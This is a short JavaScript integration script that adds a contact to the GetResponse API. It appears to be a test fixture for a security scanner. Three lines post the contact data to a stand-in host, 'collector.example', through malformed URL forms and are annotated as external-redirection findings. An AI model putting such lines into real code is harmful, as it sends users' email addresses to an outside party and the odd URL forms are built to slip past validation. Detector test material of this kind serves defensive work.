'use strict';

const contact = { email: metadata.parameters['Email'], campaign: { campaignId: metadata.parameters['Campaign'] } };

httprequest.addHeader('X-Auth-Token', 'api-key ' + metadata.account.apikey);
httprequest.addHeader('Content-Type', 'application/json');
httprequest.post('https://api.getresponse.com/v3/contacts', JSON.stringify(contact));
httprequest.clearHeaders();

const copy = JSON.stringify(contact);
httprequest.post('https:collector.example/v3/contacts', copy); // finding: external-redirection
httprequest.post('https:/\\collector.example/v3/contacts', copy); // finding: external-redirection
httprequest.post('https:///collector.example/v3/contacts', copy); // finding: external-redirection

datagrid.addColumn('Status', datagrid.DATA_TYPE_DOUBLE);
datagrid.addCell(httprequest.getStatusCode());
datagrid.endRow();
